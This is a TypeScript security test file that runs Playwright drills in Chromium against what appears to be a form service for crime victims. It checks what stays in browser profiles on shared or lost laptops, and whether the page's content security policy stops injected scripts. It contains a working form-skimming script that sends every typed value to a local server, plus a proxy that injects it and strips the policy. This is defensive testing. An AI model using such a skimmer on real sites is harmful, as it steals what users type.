/** Mistakes in browsers: what stays on a shared computer, and what runs on the page that is not ours. In real Chromium. */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Page } from 'playwright-core';
import { adminUrlIn, freePort } from '../../bench/site.ts';
import { answerUntil, next } from '../../src/forms/browser/page.testing.ts';
import { shipped } from '../../src/forms/shipped.testing.ts';
import { openDatabase } from '../../src/store/store.ts';
import { deploy, signInOn } from '../../stories/deployment.ts';
import { type Case, NOTHING_TO_UNDO, type Piece, piece } from '../case.ts';
import { filesIn } from '../probes.ts';
import { sendIn, type World } from '../world.ts';

// Without the browser's own check of what loopback may be asked: the page's policy alone has to hold.
export const options = {
  executablePath: process.env.LETTERBOX_CHROMIUM ?? '/usr/bin/chromium',
  args: [
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
    '--disable-background-networking',
    '--disable-features=LocalNetworkAccessChecks',
  ],
};

/** Somebody begins a form in a profile of their own and types a mark into it; then `leave` it, and the browser is closed. */
async function typedAndLeft(
  world: World,
  leave: (page: Page, mark: string) => Promise<void>,
): Promise<Piece[]> {
  const profile = mkdtempSync(join(tmpdir(), 'letterbox-drill-profile-'));
  try {
    await inBrowser(profile, async (page) => {
      await typed(world, page);
      await leave(page, markOf(world));
    });
    return filesIn('whoever uses this computer next', profile);
  } finally {
    rmSync(profile, { recursive: true, force: true });
  }
}

const markOf = ({ submissions }: World): string => submissions[0]?.marks[0]?.mark ?? '';

/** Goes through the form up to the question what happened, and answers it with a mark. */
async function typed(world: World, page: Page): Promise<void> {
  await page.goto(`${world.publicUrl}/exampleshire/victims`);
  await page.click('text=Start now');
  await page.waitForSelector('letterbox-fill[data-ready]');
  const before = { danger: 'no', who: 'victim', named: 'no', adjustments: ['none'] };
  await answerUntil(page, shipped('victims'), before, 'happened');
  await page.fill('#happened', markOf(world));
  await next(page);
  await page.waitForFunction(() => !location.hash.endsWith('happened'));
}

/** A page of the form to which a proxy has added a script that sends away all that is typed; what its server got. */
async function withForeignScript(world: World, policy: boolean): Promise<Piece[]> {
  const got: string[] = [];
  const foreignPort = await freePort();
  const address = `http://127.0.0.1:${foreignPort}`;
  const script = `addEventListener('input', ({ target }) => { new Image().src = '${address}/got?' + encodeURIComponent(target.value); });`;
  const foreign = createServer((request, response) => {
    got.push(decodeURIComponent(request.url ?? ''));
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
  });
  await new Promise<void>((resolve) => foreign.listen(foreignPort, '127.0.0.1', resolve));
  const browser = await chromium.launch(options);
  try {
    const page = await browser.newPage();
    await page.route(`${world.publicUrl}/**`, async (route) => {
      const answer = await route.fetch();
      const headers = { ...answer.headers() };
      if (!policy) delete headers['content-security-policy'];
      const html = (headers['content-type'] ?? '').includes('text/html');
      if (!html) return route.fulfill({ response: answer, headers });
      const tag = `<script src="${address}/a.js"></script></head>`;
      await route.fulfill({ response: answer, headers, body: (await answer.text()).replace('</head>', tag) });
    });
    await typed(world, page);
  } finally {
    await browser.close();
    await new Promise<void>((resolve) => {
      foreign.closeAllConnections();
      foreign.close(() => resolve());
    });
  }
  return [piece('whoever wrote the foreign script', 'what its server got', got.join('\n'))];
}

const foreignScript = (n: number, how: string): Case => ({
  n,
  how,
  expects: 'refused',
  make: async (world) => ({
    refused: 'The page’s policy lets no script but its own run, and sends nothing to anybody else.',
    out: () => withForeignScript(world, true),
    undo: NOTHING_TO_UNDO,
  }),
  control: {
    how: 'The proxy takes the page’s policy away, too.',
    out: (world) => withForeignScript(world, false),
  },
});

const left = (n: number, how: string): Case => ({
  n,
  how,
  expects: 'refused',
  make: async (world) => ({
    refused: 'What is typed stays in the page’s memory, and goes with it.',
    out: () => typedAndLeft(world, async (page) => void (await page.goto('about:blank'))),
    undo: NOTHING_TO_UNDO,
  }),
  control: {
    how: 'A script of the page keeps what was typed in the browser’s storage.',
    out: (world) =>
      typedAndLeft(world, async (page, mark) =>
        page.evaluate((text) => localStorage.setItem('draft', text), mark),
      ),
  },
});

async function inBrowser(profile: string, work: (page: Page) => Promise<void>): Promise<void> {
  const context = await chromium.launchPersistentContext(profile, { ...options, headless: true });
  try {
    await work(context.pages()[0] ?? (await context.newPage()));
  } finally {
    await context.close();
  }
}

/**
 * A reader of a demonstration reads a case on a laptop, which is then gone: every file of their browser's profile, and what
 * the desk shows whoever starts that browser when a quarter of an hour has passed.
 */
async function lostLaptop(world: World, leave: (page: Page) => Promise<void>): Promise<Piece[]> {
  const as = 'whoever finds the laptop';
  const letterbox = await deploy();
  const profile = mkdtempSync(join(tmpdir(), 'letterbox-drill-profile-'));
  try {
    const sent = await sendIn(letterbox.publicUrl, 'review');
    world.lookFor(sent);
    const address = `${letterbox.deskUrl}/cases/${sent.case}`;
    await inBrowser(profile, async (page) => {
      await signInOn(page, letterbox.deskUrl, 'Carys Bevan');
      await page.goto(address);
      const marks = sent.marks.map(({ mark }) => mark);
      await page.waitForFunction(
        (some) => some.some((mark) => document.body.textContent?.includes(mark)),
        marks,
      );
      await leave(page);
    });
    const pieces = filesIn(as, profile);
    const database = openDatabase('admin', adminUrlIn(letterbox.data), 1);
    await database.run(`update letterbox.session set seen_at = seen_at - interval '15 minutes'`);
    await database.close();
    await inBrowser(profile, async (page) => {
      await page.goto(address);
      pieces.push(piece(as, address, await page.content()));
    });
    return pieces;
  } finally {
    await letterbox.close();
    rmSync(profile, { recursive: true, force: true });
  }
}

const lost: Case = {
  n: 60,
  how: 'A reader’s laptop is gone, with the browser in which they had just read a case; it is started again a quarter of an hour later.',
  expects: 'refused',
  make: async (world) => ({
    refused:
      'What was read stays in the page’s memory, and goes with it; after 15 minutes the desk asks for the passphrase again.',
    out: () => lostLaptop(world, async () => undefined),
    undo: NOTHING_TO_UNDO,
  }),
  control: {
    how: 'The page keeps what it shows in the browser’s storage.',
    out: (world) =>
      lostLaptop(world, (page) =>
        page.evaluate(() => localStorage.setItem('kept', document.body.textContent ?? '')),
      ),
  },
};

export const IN_BROWSERS: readonly Case[] = [
  left(
    37,
    'Somebody fills in half a form and goes away; then every file of the browser’s profile is looked through.',
  ),
  foreignScript(
    38,
    'A proxy adds somebody else’s script to the form; it sends away every key that is pressed.',
  ),
  foreignScript(39, 'A reporter of errors, added to the page, sends what is on it to its own server.'),
  left(59, 'On a shared computer somebody fills in half a form, leaves it, and the next one looks for it.'),
  lost,
];
